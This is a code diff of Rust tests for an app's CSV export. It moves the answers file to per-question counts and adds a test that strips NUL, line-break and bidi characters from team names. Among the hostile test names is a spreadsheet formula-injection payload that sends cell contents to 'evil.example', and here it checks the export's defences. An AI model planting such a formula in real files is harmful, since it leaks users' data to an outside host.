@@ -1,14 +1,15 @@
 //! The CSV export (src/domain/csv.rs): golden files for the six golden sets, compared byte for
-//! byte, and a small RFC 4180 reader that reads the answers back, hostile team names included.
+//! byte, and a small RFC 4180 reader that reads the answers (counts per question, issue 21)
+//! back, hostile team names included.
 
 mod common;
 
 use common::golden;
+use samenwerkingsscan::domain::counts::{QuestionCounts, TeamCounts, QUESTION_COUNT};
 use samenwerkingsscan::domain::csv::{answers_csv, summary_csv};
-use samenwerkingsscan::domain::instrument::{Answer, RoleGroup, DIMENSIONS};
-use samenwerkingsscan::domain::link::response_key;
+use samenwerkingsscan::domain::instrument::{RoleGroup, DIMENSIONS};
 use samenwerkingsscan::domain::response::{Response, TeamName};
-use samenwerkingsscan::domain::team::{shareable, summarise};
+use samenwerkingsscan::domain::team::summarise;
 
 const SIX: [&str; 6] = [
     "woerden", "less", "fewnow", "boundary", "dontknow", "middle",
@@ -37,7 +38,10 @@ fn check_golden(file: &str, made: &str) {
 
 #[test]
 fn golden_answers_of_the_six() {
-    check_golden("answers_six.csv", &answers_csv(&six(), Some(&oost())));
+    check_golden(
+        "answers_six.csv",
+        &answers_csv(&TeamCounts::from_responses(&six()), Some(&oost())),
+    );
 }
 
 #[test]
@@ -89,51 +93,94 @@ fn parse(text: &str) -> Vec<Vec<String>> {
     records
 }
 
-/// The answers a record holds, read back.
-fn response_of(record: &[String]) -> Response {
-    assert_eq!(record.len(), 30);
-    let answer = |f: &String| {
-        if f.is_empty() {
-            Answer::DontKnow
-        } else {
-            let code: u8 = f.parse().expect("1-5");
-            assert!((1..=5).contains(&code));
-            Answer::from_code(code).unwrap()
+/// The counts the records hold, read back: the whole team and each role group, in the file's
+/// order, checked against the file's own columns on the way.
+fn counts_of(records: &[Vec<String>]) -> (QuestionCounts, Vec<(RoleGroup, QuestionCounts)>) {
+    assert_eq!(
+        records[0],
+        [
+            "team",
+            "rolgroep",
+            "nummer",
+            "onderdeel",
+            "vraag",
+            "aantal",
+            "weet_ik_niet",
+            "antwoord_1",
+            "antwoord_2",
+            "antwoord_3",
+            "antwoord_4",
+            "antwoord_5"
+        ]
+    );
+    let parts: Vec<&[Vec<String>]> = records[1..].chunks(QUESTION_COUNT).collect();
+    let mut read = parts.iter().map(|part| {
+        assert_eq!(part.len(), QUESTION_COUNT);
+        let mut questions = [[0u32; 6]; QUESTION_COUNT];
+        for (q, record) in part.iter().enumerate() {
+            assert_eq!(record.len(), 12);
+            let index = q % 14;
+            assert_eq!(record[1], part[0][1], "one group per part");
+            assert_eq!(record[2], (index + 1).to_string());
+            assert_eq!(record[3], DIMENSIONS[index].name.nl);
+            assert_eq!(record[4], if q < 14 { "nu" } else { "gewenst" });
+            for (c, field) in questions[q].iter_mut().zip(&record[6..]) {
+                *c = field.parse().expect("a count");
+            }
+            let total: u32 = questions[q].iter().sum();
+            assert_eq!(record[5], total.to_string(), "aantal is the part's size");
         }
-    };
-    let role = RoleGroup::ALL
-        .into_iter()
-        .find(|r| r.label().nl == record[1]);
-    assert!(role.is_some() || record[1].is_empty());
-    Response {
-        now: std::array::from_fn(|i| answer(&record[2 + i])),
-        desired: std::array::from_fn(|i| answer(&record[16 + i])),
-        role,
-    }
+        let group = RoleGroup::ALL
+            .into_iter()
+            .find(|r| r.label().nl == part[0][1]);
+        assert!(group.is_some() || part[0][1].is_empty());
+        (
+            group,
+            QuestionCounts::from_questions(questions).expect("equal totals"),
+        )
+    });
+    let (whole, team) = read.next().expect("the whole team first");
+    assert_eq!(whole, None);
+    let groups = read.map(|(g, c)| (g.expect("a role group"), c)).collect();
+    (team, groups)
 }
 
-/// What the `team` column shows for a name: the name, with a `'` before a formula start.
+/// The team and its groups, as [`counts_of`] reads them.
+fn parts(counts: &TeamCounts) -> (QuestionCounts, Vec<(RoleGroup, QuestionCounts)>) {
+    (counts.team().clone(), counts.groups().to_vec())
+}
+
+/// What the `team` column shows for a name: the name with control characters (line breaks)
+/// and bidi controls replaced by U+FFFD, and a `'` before a formula start.
 fn shown(name: &str) -> String {
-    if name.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
+    let name: String = name
+        .chars()
+        .map(|c| {
+            if c.is_control() || ('\u{202A}'..='\u{202E}').contains(&c) {
+                '\u{FFFD}'
+            } else {
+                c
+            }
+        })
+        .collect();
+    if name.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
         format!("'{name}")
     } else {
-        name.to_owned()
+        name
     }
 }
 
 #[test]
 fn header_bom_and_line_ends() {
-    let csv = answers_csv(&six(), None);
-    assert!(csv.starts_with("\u{FEFF}team,rolgroep,nu_1,nu_2,"));
+    let six_counts = TeamCounts::from_responses(&six());
+    let csv = answers_csv(&six_counts, None);
+    assert!(csv.starts_with("\u{FEFF}team,rolgroep,nummer,onderdeel,vraag,aantal,"));
     assert!(csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]));
-    assert_eq!(csv.matches("\r\n").count(), 7);
-    assert_eq!(csv.matches('\n').count(), 7);
+    let lines = 1 + 28 * (1 + six_counts.groups().len());
+    assert_eq!(csv.matches("\r\n").count(), lines);
+    assert_eq!(csv.matches('\n').count(), lines);
     let records = parse(&csv);
-    assert_eq!(records[0].len(), 30);
-    assert_eq!(records[0][2], "nu_1");
-    assert_eq!(records[0][15], "nu_14");
-    assert_eq!(records[0][16], "gewenst_1");
-    assert_eq!(records[0][29], "gewenst_14");
+    assert_eq!(counts_of(&records), parts(&six_counts));
     // No team: an empty first column.
     assert!(records[1..].iter().all(|r| r[0].is_empty()));
 
@@ -149,11 +196,14 @@ fn header_bom_and_line_ends() {
         records[1],
         ["", "1", "Systemen", "0", "", "", "", "nee", "0", "", "", "", "nee"]
     );
-    assert_eq!(parse(&answers_csv(&[], None)).len(), 1);
+    // Nobody: the header and 28 records of zeros (the app offers no file below 3).
+    let records = parse(&answers_csv(&TeamCounts::default(), None));
+    assert_eq!(records.len(), 29);
+    assert!(records[1..].iter().all(|r| r[5..].iter().all(|f| f == "0")));
 }
 
 #[test]
-fn answers_read_back_in_canonical_order_with_hostile_names() {
+fn answers_read_back_as_the_counts_with_hostile_names() {
     let names = [
         "Wijkteam Oost",
         "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")",
@@ -177,20 +227,23 @@ fn answers_read_back_in_canonical_order_with_hostile_names() {
                 team.extend(six());
                 team.push(golden("middle")); // two people may answer identically
             }
-            let csv = answers_csv(&team, Some(&name));
+            for r in team.iter_mut() {
+                r.role = RoleGroup::from_id(rng.below(3) as u8);
+            }
+            let counts = TeamCounts::from_responses(&team);
+            let csv = answers_csv(&counts, Some(&name));
             let records = parse(&csv);
-            assert_eq!(records.len(), team.len() + 1, "case {case}");
-            let read: Vec<Response> = records[1..].iter().map(|r| response_of(r)).collect();
             // Role groups only as the team may share them (issue 14; tests/csv_dialects.rs).
-            let mut expected = shareable(&team);
-            expected.sort_by_key(response_key);
-            assert_eq!(read, expected, "case {case}: {csv}");
+            assert_eq!(counts_of(&records), parts(&counts), "case {case}: {csv}");
             for record in &records[1..] {
                 assert_eq!(record[0], shown(name.as_str()), "case {case}");
             }
             // The order of the input does not show.
             team.reverse();
-            assert_eq!(answers_csv(&team, Some(&name)), csv);
+            assert_eq!(
+                answers_csv(&TeamCounts::from_responses(&team), Some(&name)),
+                csv
+            );
         }
     }
 }
@@ -249,5 +302,40 @@ fn summary_agrees_with_the_committed_team_summary() {
             .map(ours)
             .collect();
         assert_eq!(got, expected, "{line}");
+    }
+}
+
+/// Issue 21's audit: a team name from a pasted link may hold NUL, line breaks and bidi
+/// overrides; none of them reaches a CSV file, in either dialect, answers or summary.
+#[test]
+fn a_nul_in_a_team_name_from_a_link_never_reaches_a_csv() {
+    use samenwerkingsscan::domain::collect::collect;
+    use samenwerkingsscan::domain::csv::{answers_csv_in, summary_csv_in, Dialect};
+    use samenwerkingsscan::domain::link::encode_response;
+    let hostile = TeamName::new("Team\u{0}Oost\r\n\u{202E}kooL\u{2028}x").unwrap();
+    let text = six()
+        .iter()
+        .map(|r| encode_response(r, Some(&hostile)))
+        .collect::<Vec<_>>()
+        .join("\n");
+    let c = collect(&text);
+    assert_eq!(
+        c.team_name.as_ref(),
+        Some(&hostile),
+        "the link carries it as it is"
+    );
+    for dialect in Dialect::ALL {
+        let files = [
+            answers_csv_in(&c.counts(), c.team_name.as_ref(), dialect),
+            summary_csv_in(&summarise(&six()), c.team_name.as_ref(), dialect),
+        ];
+        for file in files {
+            for bad in ['\u{0}', '\u{202E}', '\u{2028}'] {
+                assert!(!file.contains(bad), "{bad:?} in {dialect:?}");
+            }
+            // Line breaks only as record ends: as many CRLFs as LFs, one per record.
+            assert_eq!(file.matches("\r\n").count(), file.matches('\n').count());
+            assert!(file.contains("Team\u{FFFD}Oost\u{FFFD}\u{FFFD}\u{FFFD}kooL\u{FFFD}x"));
+        }
     }
 }
